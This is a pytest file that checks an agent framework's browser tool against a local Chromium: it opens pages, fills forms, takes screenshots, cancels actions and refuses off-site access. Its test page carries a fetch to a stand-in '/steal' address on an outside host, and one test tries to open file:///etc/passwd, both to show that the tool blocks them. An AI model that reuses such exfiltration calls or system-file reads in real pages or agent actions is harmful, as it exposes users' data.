"""Proves the browser tool with the machine's own Chromium; skipped where there is none."""

from __future__ import annotations

import json
import os
import threading
from collections.abc import Callable, Iterator
from dataclasses import replace
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from importlib.util import find_spec
from pathlib import Path

import pytest

from agentforge.cancellation import Cancellation, under
from agentforge.toolbox import find
from agentforge.tools.base import Observation, ToolContext
from agentforge.tools.dispatch.invocation import InvocationPolicy, invoke
from agentforge.tools.web.browser import Browser, chromium

pytestmark = pytest.mark.skipif(
    not chromium(os.environ) or find_spec("playwright") is None, reason="Chromium or playwright is not installed"
)
Ask = Callable[..., Observation]
_PAGE = b"""<html><title>Shop</title><body><input id=name><button onclick="
 document.getElementById('out').textContent='Hello '+document.getElementById('name').value;
 console.error('it broke'); fetch('http://198.51.100.7/steal').catch(()=>0)">Go</button><p id=out></p></body></html>"""


class _Site(BaseHTTPRequestHandler):
    def do_GET(self) -> None:
        away = self.path == "/away"
        self.send_response(302 if away else 200)
        if away:
            self.send_header("Location", "http://198.51.100.7/")
        self.send_header("Content-Type", "text/html")
        self.end_headers()
        self.wfile.write(b"" if away else _PAGE)

    def log_message(self, *_arguments: object) -> None:
        pass


@pytest.fixture(scope="module")
def site() -> Iterator[str]:
    server = ThreadingHTTPServer(("127.0.0.1", 0), _Site)
    thread = threading.Thread(target=server.serve_forever, args=(0.01,))
    thread.start()
    yield f"http://127.0.0.1:{server.server_port}"
    server.shutdown()
    server.server_close()
    thread.join()


@pytest.fixture(scope="module")
def started() -> Iterator[Browser]:
    browser = Browser(environ=dict(os.environ))
    yield browser
    browser.close()


@pytest.fixture
def ask(context: ToolContext, started: Browser) -> Ask:
    def call(**arguments: object) -> Observation:
        mine = replace(context, browser=lambda: started)
        policy = InvocationPolicy()
        return invoke(
            "browser", json.dumps(arguments), tools=find(["browser"]), context=mine, policy=policy
        ).observation

    return call


def test_a_page_is_opened_used_read_and_pictured(ask: Ask, site: str, project: Path) -> None:
    assert ask(action="open", url=f"{site}/").summary.startswith("Shop - ")
    ask(action="fill", selector="#name", value="Ann")
    ask(action="click", selector="button")
    assert ask(action="text", selector="#out").text == "Hello Ann"
    assert "it broke" in ask(action="errors").text
    seen = ask(action="screenshot", path="pictures/shop.png")
    assert seen.changed == ("pictures/shop.png",)
    assert (project / "pictures" / "shop.png").read_bytes().startswith(b"\x89PNG")


def test_other_machines_are_not_reached_directly_by_a_redirect_or_by_the_page(ask: Ask, site: str) -> None:
    assert ask(action="open", url="https://example.org/").error_type == "refused-address"
    assert ask(action="open", url="file:///etc/passwd").error_type == "refused-address"
    assert ask(action="open", url=f"{site}/away").error_type == "browser"
    ask(action="open", url=f"{site}/")
    ask(action="click", selector="button")
    assert "refused http://198.51.100.7/steal" in ask(action="errors").text


def test_what_the_page_does_not_have_is_said(ask: Ask, site: str, started: Browser) -> None:
    ask(action="open", url=f"{site}/")
    started._do(lambda page: page.set_default_timeout(50))
    assert ask(action="click", selector="#nothing").error_type == "browser"
    assert ask(action="click").error_type == "bad-arguments"
    assert ask(action="screenshot", path="../x.png").error_type == "out-of-scope"


def test_an_action_is_stopped_from_another_thread(ask: Ask, site: str, started: Browser) -> None:
    ask(action="open", url=f"{site}/")
    started._do(lambda page: page.set_default_timeout(1000))
    sign = Cancellation()
    timer = threading.Timer(0.05, sign.cancel)
    timer.start()
    with under(sign), pytest.raises(KeyboardInterrupt):
        ask(action="text", selector="#never-there")
    timer.join()
